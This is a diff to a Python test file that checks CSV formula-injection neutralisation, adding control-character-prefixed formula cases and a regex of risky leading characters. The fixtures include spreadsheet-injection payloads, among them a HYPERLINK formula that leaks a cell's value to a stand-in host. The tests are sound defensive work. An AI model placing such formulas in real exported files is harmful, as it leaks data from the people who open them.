@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from datetime import date
 
 import polars as pl
@@ -25,11 +26,36 @@ FORMULAS = {
     '=HYPERLINK("http://evil.test","click")': '\'=HYPERLINK("http://evil.test","click")',
 }
 HARMLESS = ["ocrelizumab", "O'Brien-ü", "P-000001", "a=b", " =1", "'=already text", ""]
+# a control character first (U+0000-U+001F, U+007F): LibreOffice 7.4 skipped a NUL and ran the
+# formula after it (OWASP ASVS 1.2.10 counts them all as formula prefixes)
+CONTROL_FORMULAS = {
+    "\x00=1+1": "'\x00=1+1",
+    "\x01=1+1": "'\x01=1+1",
+    "\x1f=1+1": "'\x1f=1+1",
+    "\x7f=1+1": "'\x7f=1+1",
+    "\n=1+1": "'\n=1+1",
+    '\x00=HYPERLINK("http://evil.test/?leak="&A3;"click")': (
+        '\'\x00=HYPERLINK("http://evil.test/?leak="&A3;"click")'
+    ),
+}
+# a formula prefix of OWASP's list or a control character (what no text cell may start with)
+RISKY_START = re.compile(r"[=+\-@\x00-\x1f\x7f]")
 
 
 @pytest.mark.parametrize(("text", "neutralised"), FORMULAS.items())
 def test_a_formula_prefix_gets_a_single_quote(text: str, neutralised: str) -> None:
     assert neutralise(text) == neutralised
+
+
+@pytest.mark.parametrize(("text", "neutralised"), CONTROL_FORMULAS.items(), ids=repr)
+def test_a_control_character_before_a_formula_is_a_formula_prefix(
+    text: str, neutralised: str
+) -> None:
+    assert neutralise(text) == neutralised
+    frame = pl.DataFrame({"therapy": [text], "n": [-1]})
+    for written in (frame_csv(frame), _rows_csv(frame)):
+        assert _read(written) == [["therapy", "n"], [neutralised, "-1"]]
+    assert frame_csv(frame) == _rows_csv(frame)
 
 
 @pytest.mark.parametrize("text", HARMLESS)
@@ -141,4 +167,4 @@ def test_both_writers_write_the_neutralised_text_and_read_back(values: list[str 
     assert [row[0] if row else "" for row in rows[1:]] == expected
     assert [row[1] for row in rows[1:]] == [str(-index) for index in range(len(values))]
     for row in rows[1:]:
-        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))
+        assert not RISKY_START.match(row[0]), row
